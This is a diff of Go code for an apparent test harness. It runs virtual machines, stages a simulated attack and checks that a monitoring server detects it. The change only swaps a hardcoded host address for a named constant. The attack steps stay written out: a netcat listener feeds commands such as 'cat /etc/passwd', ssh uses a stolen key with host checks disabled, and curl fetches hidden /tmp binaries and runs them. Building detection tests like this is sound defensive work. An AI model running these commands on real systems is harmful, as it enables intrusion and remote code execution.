@@ -44,8 +44,9 @@ type guestHost struct {
 
 // The guests' own network.
 const (
-	addressA = "10.9.0.1"
-	addressB = "10.9.0.2"
+	addressHost = "10.0.2.2" // this machine, as qemu shows it to the guests
+	addressA    = "10.9.0.1"
+	addressB    = "10.9.0.2"
 )
 
 func runHosts(args []string, stdout io.Writer) error {
@@ -130,7 +131,7 @@ func free() string {
 
 // serve starts the server and, beside it, the web site that the attacker's tools come from.
 func (h *hosts) serve() error {
-	if _, err := h.start("server.log", h.yagura, "server", "--data", h.data(), "--listen", "127.0.0.1:"+free(), "--sensor-listen", "127.0.0.1:"+free(), "--hostname", "10.0.2.2"); err != nil {
+	if _, err := h.start("server.log", h.yagura, "server", "--data", h.data(), "--listen", "127.0.0.1:"+free(), "--sensor-listen", "127.0.0.1:"+free(), "--hostname", addressHost); err != nil {
 		return err
 	}
 	l, err := net.Listen("tcp", "127.0.0.1:0")
@@ -154,7 +155,7 @@ func (h *hosts) data() string { return filepath.Join(h.work, "server") }
 func first(port string) string {
 	return `#!/bin/bash
 (for c in id hostname "cat /etc/passwd" "sleep 30"; do sleep 4; echo "$c"; done) | nc -l -p 9001 >/tmp/.back 2>&1 &
-ssh -i /home/app/.ssh/id -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null app@` + addressB + ` 'curl -s -o /tmp/.y http://10.0.2.2:` + port + `/y; chmod +x /tmp/.y; nohup /tmp/.y >/dev/null 2>&1 </dev/null &'
+ssh -i /home/app/.ssh/id -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null app@` + addressB + ` 'curl -s -o /tmp/.y http://` + addressHost + `:` + port + `/y; chmod +x /tmp/.y; nohup /tmp/.y >/dev/null 2>&1 </dev/null &'
 wait
 `
 }
@@ -275,7 +276,7 @@ func (h *hosts) attack() error {
 	if err := h.until(5*time.Minute, func() error { _, err := a.do(a.web, "true"); return err }); err != nil {
 		return err
 	}
-	if _, err := a.do(a.web, "curl -s -o /tmp/.x http://10.0.2.2:"+h.files+"/x; chmod +x /tmp/.x; nohup /tmp/.x >/tmp/.log 2>&1 </dev/null & echo started"); err != nil {
+	if _, err := a.do(a.web, "curl -s -o /tmp/.x http://"+addressHost+":"+h.files+"/x; chmod +x /tmp/.x; nohup /tmp/.x >/tmp/.log 2>&1 </dev/null & echo started"); err != nil {
 		return err
 	}
 	return h.until(5*time.Minute, func() error {
